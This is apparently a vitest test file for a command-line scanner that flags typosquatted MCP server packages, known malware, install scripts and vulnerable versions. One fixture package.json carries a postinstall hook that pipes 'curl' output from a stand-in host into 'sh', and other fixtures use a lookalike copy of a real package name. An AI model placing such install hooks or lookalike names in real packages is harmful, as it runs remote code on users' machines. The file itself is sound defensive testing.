import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { ScanReport } from '../../src/core/scan.ts'
import { runHere } from '../cli/fairlead.ts'
import { scratchFolder } from '../scratch-folder.ts'
import { fakeRegistry } from './fake-registry.ts'

const ORIGINAL = '@modelcontextprotocol/server-filesystem'
const COPY = '@modelcontextprotoco1/server-filesystem'
const files = (name: string, more: object = {}) => ({
  'package.json': JSON.stringify({ name, version: '2026.1.14', ...more }),
  'index.js': 'console.error("ready")\n',
})

async function scan(target: string, ...args: string[]): Promise<{ report: ScanReport; code: number }> {
  const { stdout, code, stderr } = await runHere([
    'scan',
    target,
    '--format',
    'json',
    '--state',
    scratchFolder(),
    ...args,
  ])
  if (stdout === '') throw new Error(stderr)
  return { report: JSON.parse(stdout) as ScanReport, code }
}

const told = ({ findings }: ScanReport): string[] =>
  findings.filter(({ id }) => id.startsWith('package/')).map(({ id, severity }) => `${severity} ${id}`)

test('a copy under a name that looks alike is told by its name and its date, whatever it holds', async () => {
  const { url } = await fakeRegistry({
    [ORIGINAL]: { version: '2026.1.14', created: '2024-11-19', files: files(ORIGINAL) },
    [COPY]: { version: '2026.1.14', created: '2026-04-13', files: files(COPY) },
  })
  const { report, code } = await scan(`npm:${COPY}`, '--online', '--registry', url)
  expect([code, told(report)]).toEqual([1, ['high package/lookalike-name']])
  expect(report.findings[0]?.message).toContain('it came later')
  expect(told((await scan(`npm:${ORIGINAL}`, '--online', '--registry', url)).report)).toEqual([])
})

test('a name that is older than the well-known one is not called its copy', async () => {
  const { url } = await fakeRegistry({
    'mcp-remote': { version: '1.0.0', created: '2025-03-01', files: files('mcp-remote') },
    'mcp-remotes': { version: '1.0.0', created: '2020-01-01', files: files('mcp-remotes') },
  })
  expect(told((await scan('npm:mcp-remotes', '--online', '--registry', url)).report)).toEqual([])
})

test('malware, and what a package does when it is installed, are told without installing it', async () => {
  const { url, asked } = await fakeRegistry({
    'postmark-mcp': {
      version: '1.0.17',
      created: '2025-09-17',
      files: {
        'package.json': JSON.stringify({
          name: 'postmark-mcp',
          version: '1.0.17',
          scripts: { postinstall: 'curl -s https://mail.example/i | sh' },
        }),
      },
    },
  })
  const { report } = await scan('npm:postmark-mcp@1.0.17', '--online', '--registry', url)
  expect(told(report)).toEqual(['critical package/known-malware', 'high package/install-script'])
  expect(asked).toEqual(['postmark-mcp', '-/postmark-mcp'])
})

test('without --online nobody is asked, and the scan says so', async () => {
  const { url, asked } = await fakeRegistry({
    a: { version: '1.0.0', created: '2026-01-01', files: files('a') },
  })
  const { code, stderr } = await runHere(['scan', 'npm:a', '--registry', url, '--state', scratchFolder()])
  expect([code, stderr, asked]).toEqual([2, expect.stringContaining('--online'), []])
})

test('what a host would run is looked up offline: a bridge, a package of exact version, and nothing unversioned', async () => {
  const folder = scratchFolder()
  const servers = {
    bridge: { command: 'npx', args: ['-y', 'mcp-remote@0.1.15', 'https://mcp.example/mcp'] },
    git: { command: 'sh', args: ['-c', 'uvx mcp-server-git==2025.7.1'] },
    fixed: { command: 'npx', args: ['-y', 'mcp-remote@0.1.16', 'https://mcp.example/mcp'] },
    newest: { command: 'npx', args: ['-y', 'mcp-remote', 'https://mcp.example/mcp'] },
    evil: { command: 'npx', args: ['-y', '@lanyer640/mcp-runcommand-server'] },
  }
  writeFileSync(join(folder, 'mcp.json'), JSON.stringify({ mcpServers: servers }))
  const { report } = await scan(join(folder, 'mcp.json'))
  const found = report.findings.filter(({ id }) => id.startsWith('package/known'))
  expect(found.map(({ server, severity }) => `${severity} ${server}`).sort()).toEqual(
    ['critical bridge', 'critical evil', ...Array.from({ length: 4 }, () => 'medium git')].sort(),
  )
})
